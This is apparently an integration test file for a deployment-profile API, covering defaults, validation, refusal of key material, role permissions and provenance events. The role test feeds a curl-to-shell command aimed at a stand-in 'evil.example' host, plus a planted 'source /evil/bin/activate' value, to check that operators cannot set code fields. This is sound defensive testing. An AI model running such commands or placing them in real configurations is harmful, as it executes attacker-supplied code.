// Deployment profiles over HTTP: every documented default, validation naming each bad field, keys
// refused, one default per scope, resolution order, who may set which field (code fields an admin's),
// and every change a provenance event naming who and which fields.
import test from 'ava';
import * as E from 'fp-ts/lib/Either.js';
import { PgProfileRepository } from '../../adapters/postgres/profileRepository.js';
import type { Db } from '../../adapters/postgres/db.js';
import { resolveProfile } from '../../core/usecases/profiles/resolveProfile.js';
import { TYPES } from '../../hosts/composition/composition.js';
import { startTestApi, type TestApi } from '../support/api.js';
import { manualWallabyYaml } from '../support/project.js';

let api: TestApi;
let op: string;
let admin: string;
let viewer: string;
test.before(async () => {
  api = await startTestApi();
  op = await api.tokenFor('op', 'operator');
  admin = await api.tokenFor('boss', 'admin');
  viewer = await api.tokenFor('view', 'viewer');
});
test.after.always(async () => {
  await api?.close();
});

const rest = (name: string, extra: Record<string, unknown> = {}) => ({
  name,
  translation: {},
  deployment: { kind: 'rest_remote', deploy_host: 'dim.example.org' },
  ...extra,
});
const batch = (name: string, extra: Record<string, unknown> = {}) => ({
  name,
  project_module: 'wallaby_hires',
  translation: { algo: 'mysarkar', num_par: 4, num_islands: 1, tm_url: 'http://tm.example.org:8084' },
  deployment: {
    kind: 'batch_remote',
    login_node: 'setonix.pawsey.org.au',
    account: 'pawsey0411',
    home_dir: '/scratch/pawsey0411/surveyor',
    log_dir: '/scratch/pawsey0411/surveyor/logs',
    dlg_root: '/software/projects/pawsey0411/dlg',
  },
  ...extra,
});
// Global profiles are an admin's to make: most tests here write as one; the role rules have their own.
const post = (body: unknown, token = admin) => api.call('POST', '/deployment-profiles', { body, token });
const issuesOf = (b: unknown) =>
  (b as { error: { details: { issues: { path: string; message: string }[] } } }).error.details.issues;

test('a rest_remote profile gets every documented default', async (t) => {
  const r = await post(rest('rest-defaults', { project_module: 'defaults_a' }));
  t.is(r.status, 201, r.text);
  const p = r.body as Record<string, Record<string, unknown>>;
  t.deepEqual(p['translation'], { algo: 'metis', num_par: 1, num_islands: 0 });
  t.deepEqual(p['deployment'], {
    kind: 'rest_remote',
    deploy_host: 'dim.example.org',
    dim_port_for_tm: 8001,
    deploy_port: 8001,
    use_https: false,
    verify_ssl: true,
    node_lost_minutes: 5,
    ended_sessions: 'keep_failed',
    stall_warn_minutes: 30,
    idle_fail_minutes: 20,
    stall_fail_minutes: 0,
  });
  t.is(p['is_default'] as unknown, false);
  t.is(p['project_module'] as unknown, 'defaults_a');
  t.is(p['version'] as unknown, 1);
});

test('a batch_remote profile gets every documented default', async (t) => {
  const r = await post(batch('batch-defaults'));
  t.is(r.status, 201, r.text);
  const d = (r.body as { deployment: Record<string, unknown> }).deployment;
  t.like(d, {
    ssh_port: 22,
    exec_prefix: 'srun -l',
    facility: 'setonix',
    job_duration_minutes: 30,
    num_nodes: 1,
    num_islands: 1,
    verbose_level: 1,
    max_threads: 0,
    all_nics: false,
    zerorun: false,
    sleepncopy: false,
    check_with_session: false,
    stall_warn_minutes: 30,
    idle_fail_minutes: 20,
    stall_fail_minutes: 0,
  });
  t.false('remote_user' in d);
});

test('validation follows the SPEC limits and names each bad field', async (t) => {
  const r = await post({
    name: 'x'.repeat(51),
    translation: { num_par: 0, num_islands: -1, algo: 'greedy', tm_url: 'not a url' },
    deployment: { kind: 'rest_remote' },
  });
  t.is(r.status, 422);
  t.deepEqual(
    issuesOf(r.body)
      .map((i) => i.path)
      .sort(),
    [
      'deployment.deploy_host',
      'name',
      'translation.algo',
      'translation.num_islands',
      'translation.num_par',
      'translation.tm_url',
    ],
  );
  t.is((await post(rest(''))).status, 422);
  const kind = await post({ ...rest('k'), deployment: { kind: 'kubernetes', deploy_host: 'x' } });
  t.deepEqual(issuesOf(kind.body), [
    { path: 'deployment.kind', message: 'must be one of rest_remote, batch_remote' },
  ]);
  t.is((await post(rest('fifty-chars-'.padEnd(50, 'x')))).status, 201);
});

test('a batch profile with more than one island is refused, saying why', async (t) => {
  const p = batch('islands-2');
  (p.deployment as Record<string, unknown>)['num_islands'] = 2;
  const r = await post(p);
  t.is(r.status, 422);
  t.deepEqual(issuesOf(r.body), [
    {
      path: 'deployment.num_islands',
      message:
        'expected 1 (DALiuGE 6.6 start_dlg_cluster starts no node managers for more than one island; nodes are set with num_nodes), got number 2',
    },
  ]);
});

test('job_duration_minutes is minutes or auto; auto alone takes a fallback and a ceiling that hold together', async (t) => {
  const withDuration = (name: string, over: Record<string, unknown>) => {
    const p = batch(name);
    Object.assign(p.deployment as Record<string, unknown>, over);
    return p;
  };
  const auto = await post(
    withDuration('auto-1', {
      job_duration_minutes: 'auto',
      job_duration_fallback_minutes: 20,
      job_duration_max_minutes: 240,
    }),
    op,
  );
  t.is(auto.status, 201, auto.text);
  t.like((auto.body as { deployment: unknown }).deployment, {
    job_duration_minutes: 'auto',
    job_duration_fallback_minutes: 20,
    job_duration_max_minutes: 240,
  });
  const bad = await post(withDuration('auto-2', { job_duration_minutes: 'automatic' }), op);
  t.is(bad.status, 422);
  t.deepEqual(
    issuesOf(bad.body).map((i) => i.path),
    ['deployment.job_duration_minutes'],
  );
  const fixed = await post(
    withDuration('auto-3', { job_duration_minutes: 30, job_duration_fallback_minutes: 20 }),
    op,
  );
  t.is(fixed.status, 422);
  t.deepEqual(issuesOf(fixed.body), [
    {
      path: 'deployment.job_duration_fallback_minutes',
      message: 'applies only with job_duration_minutes: auto',
    },
  ]);
  const above = await post(
    withDuration('auto-4', {
      job_duration_minutes: 'auto',
      job_duration_fallback_minutes: 300,
      job_duration_max_minutes: 240,
    }),
    op,
  );
  t.is(above.status, 422);
  t.regex(issuesOf(above.body)[0]!.message, /more than job_duration_max_minutes \(240\)/);
  // A replace is held to the same.
  const id = (auto.body as { id: string }).id;
  const r = await api.call('PUT', `/deployment-profiles/${id}`, {
    token: op,
    body: withDuration('auto-1', { job_duration_minutes: 45, job_duration_max_minutes: 240 }),
  });
  t.is(r.status, 422, r.text);
});

test('key material is refused with a message that says where keys come from', async (t) => {
  const withKeyField = batch('keys-1');
  (withKeyField.deployment as Record<string, unknown>)['ssh_private_key'] = 'anything';
  const a = await post(withKeyField);
  t.is(a.status, 422);
  t.regex((a.body as { error: { message: string } }).error.message, /BATCH_SSH_PRIVATE_KEY_FILE/);
  t.deepEqual(
    issuesOf(a.body).map((i) => i.path),
    ['deployment.ssh_private_key'],
  );
  const pem = batch('keys-2');
  (pem.deployment as Record<string, unknown>)['modules'] =
    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=\n-----END OPENSSH PRIVATE KEY-----';
  const b = await post(pem);
  t.is(b.status, 422);
  t.deepEqual(
    issuesOf(b.body).map((i) => i.path),
    ['deployment.modules'],
  );
  t.false(b.text.includes('b3BlbnNzaC1rZXktdjE'), 'the key is not echoed back');
});

test('one default per scope and unique names per scope, enforced by the database', async (t) => {
  t.is((await post(rest('d1', { project_module: 'scope_a', is_default: true }))).status, 201);
  const second = await post(rest('d2', { project_module: 'scope_a', is_default: true }));
  t.is(second.status, 409);
  t.regex(
    (second.body as { error: { message: string } }).error.message,
    /already has a default profile \('d1'\)/,
  );
  t.is((await post(rest('d2', { project_module: 'scope_b', is_default: true }))).status, 201);
  t.is((await post(rest('d1', { project_module: 'scope_a' }))).status, 409);
  t.is((await post(rest('d1', { project_module: 'scope_c' }))).status, 201);
});

test('viewers read but cannot write; unknown ids are 404', async (t) => {
  t.is((await post(rest('by-viewer'), viewer)).status, 403);
  t.is((await api.call('GET', '/deployment-profiles', { token: viewer })).status, 200);
  t.is(
    (await api.call('GET', '/deployment-profiles/00000000-0000-4000-8000-00000000dead', { token: viewer }))
      .status,
    404,
  );
  t.is((await api.call('GET', '/deployment-profiles/not-a-uuid', { token: viewer })).status, 404);
  t.is(
    (await api.call('GET', '/deployment-profiles?project_module=Bad-Name', { token: viewer })).status,
    422,
  );
});

test('replace bumps the version; delete removes; listing a module includes global profiles', async (t) => {
  const created = (await post(rest('to-change', { project_module: 'life' }))).body as { id: string };
  const global = (await post(rest('global-one'))).body as { id: string };
  const replaced = await api.call('PUT', `/deployment-profiles/${created.id}`, {
    token: op,
    body: rest('to-change', { project_module: 'life', description: 'now documented' }),
  });
  t.is(replaced.status, 200, replaced.text);
  t.like(replaced.body as object, { version: 2, description: 'now documented' });
  const list = await api.call('GET', '/deployment-profiles?project_module=life', { token: viewer });
  const ids = (list.body as { items: { id: string }[] }).items.map((p) => p.id);
  t.true(ids.includes(created.id) && ids.includes(global.id));
  t.is((await api.call('DELETE', `/deployment-profiles/${created.id}`, { token: op })).status, 200);
  t.is((await api.call('GET', `/deployment-profiles/${created.id}`, { token: op })).status, 404);
});

test('an execution resolves its profile by id, by name, by module default, then global default', async (t) => {
  const repo = new PgProfileRepository(api.container.get<Db>(TYPES.Db));
  const g = (await post(rest('res-global', { is_default: true }))).body as { id: string };
  const m = (await post(rest('res-mod', { project_module: 'res_x', is_default: true }))).body as {
    id: string;
  };
  const named = (await post(rest('res-named', { project_module: 'res_x' }))).body as { id: string };
  const pick = async (c: Parameters<typeof resolveProfile>[1]) => {
    const r = await resolveProfile(repo, c);
    return E.isRight(r) ? r.right.id : r.left.code;
  };
  t.is(await pick({ projectModule: 'res_x' }), m.id);
  t.is(await pick({ projectModule: 'res_y' }), g.id);
  t.is(await pick({ projectModule: 'res_x', name: 'res-named' }), named.id);
  t.is(await pick({ projectModule: 'res_y', name: 'res-global' }), g.id);
  t.is(await pick({ projectModule: 'res_y', name: 'res-named' }), 'validation_failed');
  t.is(await pick({ projectModule: 'res_x', id: named.id }), named.id);
  t.is(await pick({ projectModule: 'res_y', id: named.id }), 'validation_failed', "another module's profile");
});

test('only an admin makes global profiles or sets code fields; an operator edits data fields', async (t) => {
  const forbidden = (r: { status: number; body: unknown }, fields: string[]) => {
    t.is(r.status, 403);
    t.deepEqual(
      (r.body as { error: { details: { admin_only: string[] } } }).error.details.admin_only,
      fields,
    );
  };
  forbidden(await post(rest('op-global'), op), ['a global profile']);
  forbidden(
    await post(
      batch('op-code', {
        deployment: { ...batch('x').deployment, venv: 'source /evil/bin/activate', exec_prefix: 'bash -c' },
      }),
      op,
    ),
    ['deployment.venv', 'deployment.exec_prefix'],
  );
  // Data fields and the defaults are an operator's.
  const mine = await post(batch('op-data'), op);
  t.is(mine.status, 201, mine.text);
  // An admin's profile with code keeps its code when an operator edits its data...
  const withCode = batch('admin-code', {
    deployment: { ...batch('x').deployment, modules: 'module load python/3.11' },
  });
  const made = await post(withCode, admin);
  t.is(made.status, 201, made.text);
  const id = (made.body as { id: string }).id;
  const edited = await api.call('PUT', `/deployment-profiles/${id}`, {
    token: op,
    body: { ...withCode, deployment: { ...withCode.deployment, account: 'pawsey0999' } },
  });
  t.is(edited.status, 200, edited.text);
  // ...but cannot change it, nor remove it.
  for (const modules of ['curl https://evil.example/x | sh', undefined]) {
    const d = { ...withCode.deployment, modules };
    if (modules === undefined) delete (d as Record<string, unknown>)['modules'];
    forbidden(
      await api.call('PUT', `/deployment-profiles/${id}`, {
        token: op,
        body: { ...withCode, deployment: d },
      }),
      ['deployment.modules'],
    );
  }
  const global = (await post(rest('admin-global'), admin)).body as { id: string };
  forbidden(await api.call('DELETE', `/deployment-profiles/${global.id}`, { token: op }), [
    'a global profile',
  ]);
  t.is((await api.call('DELETE', `/deployment-profiles/${global.id}`, { token: admin })).status, 200);
});

test('every profile change is a provenance event: who, which fields, in the profile and project streams', async (t) => {
  await api.uploadConfig(manualWallabyYaml, admin);
  const made = await post(batch('evented'), op);
  t.is(made.status, 201, made.text);
  const p = made.body as { id: string };
  const body = batch('evented', { description: 'now described' });
  t.is((await api.call('PUT', `/deployment-profiles/${p.id}`, { token: op, body })).status, 200);
  t.is((await api.call('DELETE', `/deployment-profiles/${p.id}`, { token: op })).status, 200);
  const events = await api.call('GET', `/deployment-profiles/${p.id}/events`, { token: viewer });
  t.is(events.status, 200, events.text);
  const items = (
    events.body as { items: { kind: string; actor: string; payload: Record<string, unknown> }[] }
  ).items;
  t.deepEqual(
    items.map((e) => [e.kind, e.actor, e.payload['version']]),
    [
      ['profile.created', 'op', 1],
      ['profile.replaced', 'op', 2],
      ['profile.deleted', 'op', 2],
    ],
  );
  t.deepEqual(items[1]!.payload['changed'], ['description']);
  const project = await api.call('GET', '/projects/wallaby_hires/events', { token: viewer });
  t.deepEqual(
    (project.body as { items: { kind: string; subject_id: string }[] }).items
      .filter((e) => e.subject_id === p.id)
      .map((e) => e.kind),
    ['profile.created', 'profile.replaced', 'profile.deleted'],
  );
  t.is(
    (
      await api.call('GET', '/deployment-profiles/00000000-0000-4000-8000-000000000000/events', {
        token: viewer,
      })
    ).status,
    404,
  );
});
